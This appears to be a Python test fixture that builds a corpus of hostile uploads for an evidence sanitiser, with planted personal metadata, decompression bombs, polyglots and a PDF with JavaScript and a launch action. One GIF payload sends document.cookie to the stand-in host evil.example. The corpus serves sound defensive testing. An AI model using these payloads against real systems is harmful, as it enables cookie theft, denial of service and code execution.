"""A hostile evidence corpus, built the same way on every run: files a careless or malicious sender could
upload, each with the reporter's data planted in it or a trap for the unit's viewer.

`CORPUS` maps a name to (bytes, what must happen): ("sanitised", media type) or ("refused", reason code).
"""
from __future__ import annotations

import io
import struct
import zlib
from functools import cache

import pikepdf
from PIL import Image, PngImagePlugin

NAME = "Siti Rahmawati"
EMAIL = "siti.rahmawati@example.id"
PHONE = "081234567890"
MAKE, MODEL = "PlantedMake", "PlantedModel-X9"
PLANTED = (NAME, EMAIL, PHONE, MAKE, MODEL)
XMP = (f'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
       f'<dc:creator>{NAME} {EMAIL}</dc:creator></x:xmpmeta><?xpacket end="w"?>').encode()
ICC_NOTE = f"profile of {NAME}'s phone".encode()


def picture(mode: str = "RGB", size: tuple[int, int] = (64, 48)) -> Image.Image:
    """A deterministic gradient, so pixels can be compared before and after."""
    image = Image.new("RGB", size)
    image.putdata([((x * 4) % 256, (y * 5) % 256, (x * y) % 256) for y in range(size[1]) for x in range(size[0])])
    return image.convert(mode)


def planted_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x013B] = MAKE, MODEL, f"{NAME} <{EMAIL}>"  # Make, Model, Artist
    exif[0x9286] = f"HP {PHONE}"  # UserComment
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to show
    exif.get_ifd(0x8825).update({1: "S", 2: (1.0, 28.0, 12.5), 3: "E", 4: (101.0, 26.0, 47.0)})  # GPS
    return exif


def gps_jpeg() -> bytes:
    out = io.BytesIO()
    picture().save(out, "JPEG", quality=90, exif=planted_exif(), comment=f"{NAME} {PHONE}".encode(),
                   icc_profile=ICC_NOTE, xmp=XMP)
    return out.getvalue()


def plain_jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    picture(size=size).save(out, "JPEG", quality=90)
    return out.getvalue()


def author_png() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", f"{NAME} <{EMAIL}>")
    info.add_text("Comment", f"telepon {PHONE}", zip=True)  # zTXt
    info.add_itxt("Description", f"dari {NAME}", lang="id", tkey="Keterangan")
    out = io.BytesIO()
    picture().save(out, "PNG", pnginfo=info, exif=planted_exif(), icc_profile=ICC_NOTE)
    return out.getvalue()


def plain_png(size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    picture(size=size).save(out, "PNG")
    return out.getvalue()


def exif_webp() -> bytes:
    out = io.BytesIO()
    picture().save(out, "WEBP", lossless=True, exif=planted_exif(), xmp=XMP, icc_profile=ICC_NOTE)
    return out.getvalue()


def animated_webp_with_frame_metadata() -> bytes:
    """Two frames; the first carries a chunk of its own naming the reporter, which no viewer needs."""
    out = io.BytesIO()
    frames = [picture(size=(16, 16)), picture(size=(16, 16)).rotate(90)]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], lossless=True, duration=100)
    data = out.getvalue()
    at = data.index(b"ANMF")
    size = struct.unpack("<I", data[at + 4:at + 8])[0]
    note = f"{NAME} {PHONE}".encode()
    extra = b"NOTE" + struct.pack("<I", len(note)) + note + (b"\x00" if len(note) & 1 else b"")
    frame = data[at:at + 8 + size]
    assert size % 2 == 0
    grown = b"ANMF" + struct.pack("<I", size + len(extra)) + frame[8:] + extra  # unknown chunks come last
    body = data[12:at] + grown + data[at + 8 + size:]
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def commented_gif() -> bytes:
    """A GIF with a comment extension and an XMP application extension naming the reporter."""
    out = io.BytesIO()
    picture("P").save(out, "GIF", comment=f"{NAME} {EMAIL}".encode())
    data = out.getvalue()
    xmp_block = b"\x21\xff\x0bXMP DataXMP" + _sub_blocks(XMP) + b"\x00"
    return data[:-1] + xmp_block + data[-1:]


def _sub_blocks(data: bytes) -> bytes:
    return b"".join(bytes([len(data[i:i + 255])]) + data[i:i + 255] for i in range(0, len(data), 255))


def gif_script() -> bytes:
    return b"GIF89a<script>fetch('https://evil.example/?c='+document.cookie)</script>"


def gif_with_script_comment() -> bytes:
    """A valid GIF whose comment is a script: the classic image/JavaScript polyglot."""
    out = io.BytesIO()
    picture("P", (8, 8)).save(out, "GIF", comment=b"*/=1;<script>alert(1)</script>/*")
    return out.getvalue()


def html_after_png() -> bytes:
    return plain_png() + b"<html><body><script>alert('unit')</script></body></html>"


@cache
def png_bomb() -> bytes:
    """10,000 x 10,000 grey pixels, all zero: 100 MB once decoded, about 430 KB on the wire."""
    packer, hundred_rows = zlib.compressobj(1), b"\x00" * 10_001 * 100
    idat = b"".join(packer.compress(hundred_rows) for _ in range(100)) + packer.flush()
    return _png(struct.pack(">IIBBBBB", 10_000, 10_000, 8, 0, 0, 0, 0), idat)


def lying_png() -> bytes:
    """The header says 16 x 16, the image data inflates to 4 MB: a bomb behind a small header."""
    return _png(struct.pack(">IIBBBBB", 16, 16, 8, 0, 0, 0, 0), zlib.compress(b"\x00" * 4_000_000, 9))


def wide_png() -> bytes:
    packer = zlib.compressobj(9)
    return _png(struct.pack(">IIBBBBB", 40_000, 1, 8, 0, 0, 0, 0),
                packer.compress(b"\x00" * 40_001) + packer.flush())


def damaged_png() -> bytes:
    data = bytearray(plain_png())
    data[40] ^= 0xFF  # inside the IDAT: its CRC no longer matches
    return bytes(data)


def truncated_png() -> bytes:
    data = plain_png()
    return data[:len(data) * 6 // 10]


def truncated_jpeg() -> bytes:
    data = gps_jpeg()
    return data[:len(data) * 6 // 10]


def zip_after_jpeg() -> bytes:
    """A photo with an archive appended after its end marker: viewers ignore it, unzip tools find it."""
    return plain_jpeg() + b"PK\x03\x04" + f"kontak.txt {NAME} {PHONE}".encode() + b"PK\x05\x06" + b"\x00" * 18


def truncated_gif() -> bytes:
    data = commented_gif()
    return data[:len(data) * 6 // 10]


def truncated_webp() -> bytes:
    data = exif_webp()
    return data[:len(data) * 6 // 10]


def _png(ihdr: bytes, idat: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def js_pdf() -> bytes:
    """A one-page PDF with the reporter in /Info and XMP, a script run on open, on page open and on a link,
    a launch action, an attached file and an XFA form."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.docinfo["/Author"] = f"{NAME} <{EMAIL}>"
    pdf.docinfo["/Creator"] = f"HP {PHONE}"
    pdf.Root.Metadata = pdf.make_stream(XMP, Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('netra-js-open')"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('netra-js-tree')")))])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("kontak.txt"), pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec, F=pikepdf.String("kontak.txt"),
            EF=pikepdf.Dictionary(F=pdf.make_stream(f"{NAME} {PHONE}".encode())))])))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(
        b"<xdp:xdp><script>xfa.host.messageBox('netra-xfa')</script></xdp:xdp>"))
    page = pdf.pages[0].obj
    page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                      JS=pikepdf.String("app.alert('netra-js-page')")))
    page.Annots = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[10, 10, 100, 40],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe /c netra-launch"))))])
    out = io.BytesIO()
    pdf.save(out, deterministic_id=True, fix_metadata_version=False)
    return out.getvalue()


def pdf_named_png() -> bytes:
    """A PDF whose sender called it bukti.png: the name never counts, its bytes say PDF."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    pdf.docinfo["/Author"] = NAME
    pdf.docinfo["/Title"] = f"Laporan oleh {EMAIL}"
    out = io.BytesIO()
    pdf.save(out, deterministic_id=True)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="rahasia", owner="rahasia"))  # qpdf salts it anew
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = js_pdf()
    return data[:len(data) // 2]


SANITISED, REFUSED = "sanitised", "refused"
CORPUS = {
    "gps_jpeg": (gps_jpeg, (SANITISED, "image/jpeg")),
    "author_png": (author_png, (SANITISED, "image/png")),
    "exif_webp": (exif_webp, (SANITISED, "image/webp")),
    "commented_gif": (commented_gif, (SANITISED, "image/gif")),
    "animated_webp_with_frame_metadata": (animated_webp_with_frame_metadata, (SANITISED, "image/webp")),
    "js_pdf": (js_pdf, (SANITISED, "application/pdf")),
    "pdf_named_png": (pdf_named_png, (SANITISED, "application/pdf")),
    "zip_after_jpeg": (zip_after_jpeg, (SANITISED, "image/jpeg")),
    "gif_script": (gif_script, (REFUSED, "active_content")),
    "gif_with_script_comment": (gif_with_script_comment, (REFUSED, "active_content")),
    "html_after_png": (html_after_png, (REFUSED, "active_content")),
    "png_bomb": (png_bomb, (REFUSED, "decompression_bomb")),
    "lying_png": (lying_png, (REFUSED, "decompression_bomb")),
    "wide_png": (wide_png, (REFUSED, "too_large")),
    "damaged_png": (damaged_png, (REFUSED, "damaged")),
    "truncated_png": (truncated_png, (REFUSED, "truncated")),
    "truncated_jpeg": (truncated_jpeg, (REFUSED, "truncated")),
    "truncated_pdf": (truncated_pdf, (REFUSED, "truncated")),
    "truncated_gif": (truncated_gif, (REFUSED, "truncated")),
    "truncated_webp": (truncated_webp, (REFUSED, "truncated")),
    "encrypted_pdf": (encrypted_pdf, (REFUSED, "encrypted")),
}


def screenshot(seed: int, media_type: str) -> bytes:
    """A 1366 x 768 page-like picture of about 512 KB (flat bars and a band of noise), with the reporter's
    name planted: a PNG with a tEXt Author chunk, or a JPEG with the planted EXIF."""
    import io as _io
    import random as _random

    from PIL import PngImagePlugin
    rng = _random.Random(seed)
    image = Image.new("RGB", (1366, 768), (rng.randrange(200, 256),) * 3)
    noisy_rows = 126 if media_type == "image/png" else 470
    image.paste(Image.frombytes("RGB", (1366, noisy_rows), rng.randbytes(1366 * noisy_rows * 3)), (0, 200))
    out = _io.BytesIO()
    if media_type == "image/png":
        info = PngImagePlugin.PngInfo()
        info.add_text("Author", NAME)
        image.save(out, "PNG", pnginfo=info)
    else:
        image.save(out, "JPEG", quality=85, exif=planted_exif())
    return out.getvalue()
